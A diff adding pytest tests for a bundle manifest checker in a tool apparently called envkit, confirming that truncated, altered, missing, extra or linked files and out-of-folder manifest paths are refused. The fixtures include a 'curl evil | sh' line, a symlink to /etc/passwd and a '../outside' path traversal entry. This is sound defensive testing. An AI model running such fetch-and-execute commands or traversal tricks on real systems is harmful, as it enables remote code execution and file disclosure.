@@ -1,0 +1,71 @@
+"""A bundle is checked against its manifest before anything in it is used: every way a copy can
+go wrong (a file changed, cut short, missing, added, a link, no manifest at all, a manifest that
+names a path outside) is refused by name, and a whole copy passes."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from pathlib import Path
+
+import pytest
+
+from envkit.bundle.manifest import MANIFEST, check_bundle, write_manifest
+from envkit.errors import EnvkitError
+
+
+@pytest.fixture
+def bundle(tmp_path: Path) -> Path:
+    folder = tmp_path / "bundle"
+    (folder / "wheels").mkdir(parents=True)
+    (folder / "image.tar").write_bytes(b"layers" * 1000)
+    (folder / "wheels" / "tqdm-4.67.1-py3-none-any.whl").write_bytes(b"wheel")
+    (folder / "envkit.lock").write_text("schema 1\n")
+    write_manifest(folder, {"image": "envkit/demo:latest"})
+    return folder
+
+
+def _refused(folder: Path) -> str:
+    with pytest.raises(EnvkitError) as refused:
+        check_bundle(folder)
+    return f"{refused.value} {refused.value.fix}"
+
+
+def test_a_whole_copy_passes_with_every_file_listed(bundle: Path, tmp_path: Path) -> None:
+    copy = tmp_path / "copied"
+    shutil.copytree(bundle, copy)
+    assert set(check_bundle(copy)) == {
+        "image.tar",
+        "wheels/tqdm-4.67.1-py3-none-any.whl",
+        "envkit.lock",
+    }
+
+
+def test_each_way_a_copy_goes_wrong_is_named(bundle: Path) -> None:
+    (bundle / "image.tar").write_bytes(b"layers" * 999)  # cut short
+    (bundle / "envkit.lock").write_text("schema 2\n")  # same size, other bytes
+    (bundle / "wheels" / "tqdm-4.67.1-py3-none-any.whl").unlink()
+    (bundle / "extra.sh").write_text("curl evil | sh\n")
+    said = _refused(bundle)
+    assert "image.tar: 5994 bytes, the manifest says 6000: cut short (a partial copy)" in said
+    assert "envkit.lock: changed (its sha256 is not the manifest's)" in said
+    assert "wheels/tqdm-4.67.1-py3-none-any.whl: missing" in said
+    assert "extra.sh: not in the manifest" in said
+    assert "nothing was loaded or run" in said
+
+
+def test_no_manifest_is_a_partial_bundle(bundle: Path) -> None:
+    (bundle / MANIFEST).unlink()
+    assert "is a partial bundle: it has no MANIFEST.json" in _refused(bundle)
+
+
+def test_a_link_or_a_manifest_path_outside_the_folder_is_refused(bundle: Path) -> None:
+    (bundle / "wheels" / "passwd").symlink_to("/etc/passwd")
+    assert "wheels/passwd is a link or a special file" in _refused(bundle)
+    (bundle / "wheels" / "passwd").unlink()
+    document = json.loads((bundle / MANIFEST).read_text())
+    document["files"].append({"path": "../outside", "size": 1, "sha256": "0" * 64})
+    (bundle / MANIFEST).write_text(json.dumps(document))
+    assert "'../outside' leaves the bundle's folder" in _refused(bundle)
+    (bundle / MANIFEST).write_text("{not json")
+    assert "is not an envkit bundle's manifest" in _refused(bundle)
